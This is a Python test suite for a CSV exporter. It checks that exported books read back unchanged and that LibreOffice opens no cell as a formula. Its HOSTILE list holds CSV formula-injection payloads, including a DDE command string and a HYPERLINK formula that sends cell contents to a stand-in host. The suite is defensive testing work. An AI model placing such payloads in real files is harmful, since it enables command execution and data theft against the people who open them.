"""CSV files that are written: read back they are the same book, to the letter, and no spreadsheet finds a formula."""

import re
import subprocess
from collections.abc import Sequence
from datetime import date
from decimal import Decimal, localcontext
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from support import programs
from support.engines import _profile
from support.random_books import AMOUNTS, books

from partnerbook.book.export import content_rows
from partnerbook.book.read.headings import every_heading
from partnerbook.book.read.reader import read_book
from partnerbook.book.tables import TABLES
from partnerbook.book.tables.settings import SETTING_HEADING, SETTINGS, VALUE_HEADING
from partnerbook.book.write.contents import cell_content
from partnerbook.errors import PartnerbookError
from partnerbook.files.csv_in import csv_grid
from partnerbook.files.csv_out import cell_text, write_csv
from partnerbook.names import LANGUAGES
from partnerbook.records import NOWHERE, Book, Client, Deal, Settings
from partnerbook.sample import sample_book

HOSTILE = (
    "=1+1", "'=1+1", "''=1+1", "+1+1", "-1+1", "-5", "@SUM(1)", "\t=1+1", "\r=1+1", "'\t=1+1", "'@x", "'", "''",
    '=HYPERLINK("http://x.example?a="&A1;"look")', "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "O'=Hara",
    'a";=1+1', "a,=1+1", "one\n=1+1", "one\r\n=1+1",
    "A, =1+1", "A, =1+1, B", "a;  -1+1", " =1+1", "\u00a0=1+1", "A, '=1+1", "a|\u2003+1+1",
)  # fmt: skip
AWKWARD = Book(
    Settings(partner="'=1+1", alert_days=(30, 60), growth_added=frozenset({"NA", "CI"})),
    clients=(
        Client("=1+1", "NA", hub_id="-5", domain="'@x", note="+1\n=2", hubspot_sold_points=Decimal("1.234")),
        Client("'=1+1", "BR", hub_id="''=1+1", usage_score=Decimal("0.123"), hubspot_sold_points=Decimal("12.345")),
    ),
    deals=(Deal("-1", "'=1+1", "@Hub", "new", "sourced", date(2026, 4, 3), Decimal("123.456"), "BRL"),),
)

# One number, which alone could be a thousand.
LONELY = Book(
    Settings(), (Client("Acme", "NA"),),
    deals=(Deal("", "Acme", "Hub", "new", "sourced", date(2026, 4, 3), Decimal("1.234"), "BRL"),),
)  # fmt: skip


def write_csv_folder(book: Book, folder: Path, language: str, decimal_comma: bool) -> None:
    for table in TABLES:
        headings = [column.heading(language) for column in table.columns]
        if table.by_row:
            headings = [SETTING_HEADING.label(language), VALUE_HEADING.label(language)]
            values = (cell_content(getattr(book.settings, c.field), c, language) for c in SETTINGS.columns)
            rows = [[c.heading(language), value] for c, value in zip(SETTINGS.columns, values, strict=True)]
        else:
            rows = list(content_rows(table, getattr(book, table.field), language))
        write_csv(folder / f"{table.label(language)}.csv", headings, rows, decimal_comma)


def without_origins(book: Book) -> Book:
    records: dict[str, Any] = {
        table.field: tuple(record._replace(origin=NOWHERE) for record in getattr(book, table.field))
        for table in TABLES
        if not table.by_row
    }
    return book._replace(**records)


@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
@given(book=books(), language=st.sampled_from(LANGUAGES), decimal_comma=st.booleans())
@example(book=AWKWARD, language="en", decimal_comma=False)
@example(book=AWKWARD, language="es", decimal_comma=True)
@example(book=LONELY, language="en", decimal_comma=False)
@example(book=LONELY, language="pt", decimal_comma=True)
@example(book=without_origins(sample_book(6)), language="pt", decimal_comma=True)
def test_any_book_is_read_back(
    book: Book, language: str, decimal_comma: bool, tmp_path_factory: pytest.TempPathFactory
) -> None:
    folder = tmp_path_factory.mktemp("any")
    write_csv_folder(book, folder, language, decimal_comma)
    found, problems = read_book(folder)
    assert [str(problem) for problem in problems if problem.severity != "note"] == []
    assert without_origins(found) == book
    separators = {problem.found for problem in problems}
    assert separators == {";" if decimal_comma else ","}


@given(value=AMOUNTS | AMOUNTS.map(Decimal.copy_negate) | st.integers(-(10**30), 10**30).map(Decimal))
@example(value=Decimal("1E+30"))
@example(value=Decimal("1E-24"))
@example(value=Decimal("-0.0"))
def test_every_digit_of_a_number_is_there(value: Decimal) -> None:
    with localcontext(prec=6):  # whatever context the caller has
        point, comma = cell_text(value), cell_text(value, decimal_comma=True)
    assert comma == point.replace(".", ",")
    assert set(point) <= set("-.0123456789")
    assert Decimal(point) == value


@given(text=st.text(st.sampled_from("'=+-@\t\r\n ,;\"ab"), max_size=6))
def test_a_text_is_read_back_to_the_letter(text: str, tmp_path_factory: pytest.TempPathFactory) -> None:
    path = tmp_path_factory.mktemp("text") / "Notes.csv"
    write_csv(path, ["Client", "Note"], [["x", text], ["y", "z"]])
    rows = csv_grid(path, path.name, every_heading())[0].rows
    assert rows[1][1] == text


def test_only_one_apostrophe_and_only_before_a_formula_is_taken_away(tmp_path: Path) -> None:
    path = tmp_path / "Notes.csv"
    path.write_text("Client,Note\n'=a,'b\n''=a,'\n'tHooft,''\n", encoding="utf-8")
    assert [list(row) for row in csv_grid(path, path.name, every_heading())[0].rows[1:]] == [
        ["=a", "'b"],
        ["'=a", "'"],
        ["'tHooft", "''"],
    ]


def opened_by_libreoffice(path: Path, separator: str, folder: Path) -> list[tuple[object, ...]]:
    """The cells as LibreOffice has them when it opens a CSV file and looks for formulas, which start with "="."""
    command = [
        programs.soffice(), f"-env:UserInstallation={_profile().as_uri()}", "--headless", "--norestore",
        f"--infilter=CSV:{ord(separator)},34,76,1,,0,false,true,false", "--convert-to", "xlsx", "--outdir", str(folder),
        str(path),
    ]  # fmt: skip
    subprocess.run(command, check=True, capture_output=True, timeout=180)  # noqa: S603
    return list(load_workbook(folder / f"{path.stem}.xlsx").worksheets[0].iter_rows(values_only=True))


@pytest.mark.libreoffice
@pytest.mark.parametrize("decimal_comma", [False, True])
def test_libreoffice_finds_no_formula(decimal_comma: bool, tmp_path: Path) -> None:
    separator = ";" if decimal_comma else ","
    rows: Sequence[Sequence[object]] = [[text, Decimal("-1.5"), date(2026, 10, 31), text] for text in HOSTILE]
    write_csv(tmp_path / "safe.csv", ["One", "Number", "Day", "Two"], rows, decimal_comma)
    found = opened_by_libreoffice(tmp_path / "safe.csv", separator, tmp_path / "out")
    assert len(found) == 1 + len(HOSTILE)
    texts = [cell for row in found[1:] for cell in (row[0], row[3])]
    assert [text for text in texts if str(text).startswith("=")] == []
    assert all(isinstance(text, str) for text in texts)

    (tmp_path / "raw.csv").write_text(f"One{separator}Two\n=1+1{separator}x\n", encoding="utf-8-sig")
    assert opened_by_libreoffice(tmp_path / "raw.csv", separator, tmp_path / "out")[1][0] == "=1+1"


@pytest.mark.libreoffice
@pytest.mark.parametrize("separator", [";", "\t", "|"])
def test_nor_where_a_program_parts_cells_elsewhere(separator: str, tmp_path: Path) -> None:
    marks = (*";,|\t\n\r", ", ", "; ")
    parts = [f"{before}{mark}=1+1" for before in ("a", "a b", 'say "x"', "") for mark in marks]
    rows = [[f"{part}{end}", "x"] for part in (*parts, *HOSTILE) for end in ("", ";-2+3", "\n@SUM(1)")]
    write_csv(tmp_path / "safe.csv", ["One", "Two"], rows)
    found = opened_by_libreoffice(tmp_path / "safe.csv", separator, tmp_path / "out")
    texts = [cell for row in found for cell in row if isinstance(cell, str)]
    assert [text for text in texts if text.startswith(("=", "+", "-", "@"))] == []
    assert sum("1+1" in text for text in texts) >= len(parts)


def test_what_another_separator_would_part_is_in_quotation_marks_and_no_formula(tmp_path: Path) -> None:
    for decimal_comma, text in ((True, "A, =1+1, B"), (False, "A; =1+1; B"), (False, "A\u00a0| @x |")):
        write_csv(tmp_path / "a.csv", ["Client", "Note"], [["x", text], [None, text]], decimal_comma)
        lines = (tmp_path / "a.csv").read_text("utf-8-sig").splitlines()
        assert all(line.endswith('"') and line.count('"') == 2 for line in lines[1:])
        parts = [part.strip() for line in lines for part in re.split(r"[;,|]", line)]
        assert [part for part in parts if part.startswith(("=", "+", "-", "@"))] == []
        assert csv_grid(tmp_path / "a.csv", "a.csv", every_heading())[0].rows[1][1] == text


def test_the_file_says_its_encoding_and_ends_lines_as_excel_does(tmp_path: Path) -> None:
    write_csv(tmp_path / "a.csv", ["Año", "MRR"], [["Ñandú", Decimal("1234.50")], [None, date(2026, 1, 2)]], True)
    assert (
        tmp_path / "a.csv"
    ).read_bytes() == b"\xef\xbb\xbfA\xc3\xb1o;MRR\r\n\xc3\x91and\xc3\xba;1234,5\r\n;2026-01-02\r\n"


def test_what_cannot_be_written_leaves_what_was_there(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    path.write_text("mine", encoding="utf-8")

    def rows() -> Any:
        yield ["a"]
        raise RuntimeError

    with pytest.raises(RuntimeError):
        write_csv(path, ["One"], rows())
    assert [(each.name, each.read_text("utf-8")) for each in tmp_path.iterdir()] == [("a.csv", "mine")]
    (tmp_path / "taken").mkdir()
    with pytest.raises(PartnerbookError, match=r"taken cannot be written"):
        write_csv(tmp_path / "taken", ["One"], [])
    assert sorted(each.name for each in tmp_path.iterdir()) == ["a.csv", "taken"]
    with pytest.raises(PartnerbookError, match="Nothing can be written to the folder"):
        write_csv(tmp_path / "nowhere" / "a.csv", ["One"], [])
